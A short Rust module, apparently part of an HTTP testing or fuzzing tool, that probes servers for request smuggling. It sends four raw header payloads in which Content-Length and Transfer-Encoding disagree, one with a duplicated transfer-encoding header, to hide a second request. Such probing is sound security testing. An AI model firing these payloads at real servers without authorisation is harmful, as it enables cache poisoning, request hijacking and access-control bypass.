//! Tries: to hide a request behind a length and a transfer coding that disagree.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Odd("content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: 0\r\ntransfer-encoding: chunked\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding: chunked\r\ntransfer-encoding: identity\r\ncontent-length: 0\r\n\r\n{chunk}"),
    ])
    .await;
}
